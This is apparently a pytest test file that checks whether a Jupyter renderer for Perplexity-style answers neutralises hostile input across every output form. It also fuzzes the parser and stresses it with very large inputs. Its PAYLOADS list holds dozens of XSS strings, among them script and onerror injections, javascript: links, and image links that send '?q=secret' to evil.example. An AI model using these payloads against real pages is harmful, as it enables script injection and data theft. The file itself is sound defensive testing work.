"""Hostile text in every place where text from outside can stand, in every form."""

from __future__ import annotations

import json
import pathlib
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pplx_jupyter.answer import Answer, Cost, Failure, Image, Receipt, Search, Source
from pplx_jupyter.render import answer_forms, body, failure_forms, failure_line, raw_forms, stylesheet
from pplx_jupyter.render.words import plain

Audit = Callable[[str], None]
CORPUS = pathlib.Path(__file__).parents[2].parent / "shared" / "xss" / "core.jsonl"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6a;avascript&#x3a;alert(1))",
    "[x](&amp;#x6a;avascript&amp;#x3a;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](http:foo) [z](//evil.example) [w](/api/kernels) [v](#x)",
    "[x](https://bank.example@evil.example/)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "<javascript://%0aalert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "!\\[x](https://evil.example/i.png)",
    "Wow![1] and !**[1]** and `!`[1]",
    "\\![x](https://evil.example/i.png)",
    "$\\unicode[x;background:url(//evil.example)]{65}$ and $x_1 ![i](https://evil.example/i.png)$",
    "\\(\\href{javascript:alert(1)}{x}\\) $$\\style{position:fixed}{x}$$ \\begin{align}\\unicode{65}\\end{align}",
    "\\(a](javascript:alert(1)\\) $[x](javascript:alert(1))_1$ $<img src=x onerror=alert(1)>_1$",
    "$$\n[r]: javascript:alert(1)\n$$",
    '```html" onmouseover=alert(1)\n<script>\n```',
    "````\n```\n<script>alert(1)</script>\n````",
    "`` ` `<script>alert(1)</script>` ` ``",
    "| a |\n|---|\n| `x|<img src=x onerror=alert(1)>` |",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "<div class=jp-Dialog style='position:fixed' id=x data-commandlinker-command=x>y</div>",
    "{: onclick=alert(1) } {#id} [TOC] *[x]: y",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "\ufdd0\u202e\u2066\x00\x1b]8;;http://evil\x07",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<!-- --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "</div></details></style><script>alert(1)</script>",
    "](javascript:alert(1)) [a](https://a.example) [",
    "\\\n- x\n\\# y\n1\\. z\n    <script>",
    '<https://a.example/"onmouseover=alert(1)>',
    "https://a.example/'onmouseover=alert(1)//<script>",
    "[1]: javascript:alert(1)\n[2]: <https://evil.example> 'x'",
    "--><script>alert(1)</script><!--",
]  # fmt: skip


def _everywhere(text: str) -> Answer:
    return Answer(
        text=text,
        thinking=text,
        sources=[Source(1, text, text, text, text, text), Source(2, f"https://a.example/{text}", text)],
        images=[Image(text, text, text)],
        related_questions=[text],
        searches=[Search("searched", text), Search("read", text), Search(text, text)],
        cost=Cost(0.1, {text: 0.1}),
        incomplete=text,
        model=text,
        raw={text: text},
    )


def _receipt(text: str) -> Receipt:
    return Receipt(
        text, text, text, text, text, text, text, text, text, filled={text: text * 9}, version=text
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_leaves_any_form(payload: str, audit_html: Audit, audit_markdown: Audit) -> None:
    for forms in (
        answer_forms(Answer(text=payload, sources=[Source(1, "https://a.example")])),
        answer_forms(_everywhere(payload), _receipt(payload), usual=payload),
        raw_forms(_everywhere(payload), _receipt(payload)),
        failure_forms(Failure("failed", payload, fields=[payload], reason=payload), _receipt(payload)),
        failure_forms(Failure("unsupported", payload, fields=[payload], host=payload), _receipt(payload)),
        failure_forms(
            Failure("unauthorized", payload, key_from=payload, request_id=payload), _receipt(payload)
        ),
    ):
        audit_html(forms["text/html"])
        audit_markdown(forms["text/markdown"])
        assert not set(forms["text/plain"]) & set("\x00\x02\x03\x07\x1b\u202e\u2066")
    line = failure_line(Failure("failed", payload), _receipt(payload))
    assert not set(line) & set("\n\x00\x02\x03\x07\x1b\u202e\u2066")


def test_nothing_active_of_the_public_collections(audit_html: Audit, audit_markdown: Audit) -> None:
    if not CORPUS.exists():
        pytest.skip("the collection of payloads is not here; the payloads above were tested")
    payloads = [
        json.loads(line)["payload"] for line in CORPUS.read_text(encoding="utf-8").strip().split("\n")
    ]
    for n, payload in enumerate(payloads):
        body._shape(body._parse(plain(payload), {1}))
        forms = answer_forms(Answer(text=payload, sources=[Source(1, "https://a.example")]))
        audit_html(forms["text/html"])
        audit_markdown(forms["text/markdown"])
        if n % 20 == 0:
            forms = answer_forms(_everywhere(payload), _receipt(payload))
            audit_html(forms["text/html"])
            audit_markdown(forms["text/markdown"])


def test_a_parser_that_breaks_costs_no_answer(monkeypatch: pytest.MonkeyPatch, audit_html: Audit) -> None:
    def breaks(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr(body, "_parse", breaks)
    forms = answer_forms(Answer(text="# <script>\n\nKept $5"))
    audit_html(forms["text/html"])
    assert "<pre><code># &lt;script&gt;&#10;\nKept $5</code></pre>" in forms["text/html"]
    assert "Kept $5" in forms["text/plain"]


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        "![" * 50_000,
        "[a](" * 50_000,
        "*a **b " * 20_000,
        "> " * 20_000,
        "- " * 20_000,
        "\n".join("  " * n + "- a" for n in range(500)),
        "`" * 50_000,
        " ".join("`" * n for n in range(400)),
        "$a_" * 50_000,
        "\\(" * 50_000,
        "\\[\n" * 20_000,
        "| a " * 20_000 + "\n" + "|-" * 20_000,
        "|a|b|\n|-|-|\n" + "|c[1]|d|\n" * 20_000,
        "https://a.b " * 20_000,
        "[1]" * 30_000,
        "[" + "1," * 50_000,
        "word " * 500_000,
        "<a " * 50_000,
    ],
)
def test_hostile_sizes_end_and_lose_nothing(text: str) -> None:
    found = body.read(text, {1})
    letters = [character for character in text[:3000] if character.isalpha()]
    shown = "".join(node if isinstance(node, str) else node.text() for node in found.root.children)
    assert len([character for character in shown if character.isalpha()]) >= len(letters) * 0.9
    assert (
        answer_forms(Answer(text=text))["text/html"]
        .removesuffix(f"{stylesheet()}</div>")
        .endswith("</footer>")
    )


FRAGMENTS = st.lists(
    st.sampled_from(
        [*"*_`~[]()<>!#|\\$&:-+.0123\n\t ", "a", "[1]", "](", "\n\n", "\n- ", "\n1. ", "\n> ", "```", "|-|", "$$", "\\(", "\\)",
         "\\[", "\\]", "https://a.b", "<b>", "&lt;", "    ", "---", "é", "汉", "\u202e", "\x00", "**"]
    ),
    max_size=60,
).map("".join)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.one_of(FRAGMENTS, st.text(max_size=300)))
def test_no_text_makes_it_raise_or_speak(audit_html: Audit, audit_markdown: Audit, text: str) -> None:
    forms = answer_forms(_everywhere(text), _receipt(text))
    audit_html(forms["text/html"])
    audit_markdown(forms["text/markdown"])
    forms["text/plain"].encode()


@settings(max_examples=150, deadline=None)
@given(FRAGMENTS)
def test_no_markup_is_too_odd_for_the_parser(text: str) -> None:
    body._shape(body._parse(plain(text), {1}))
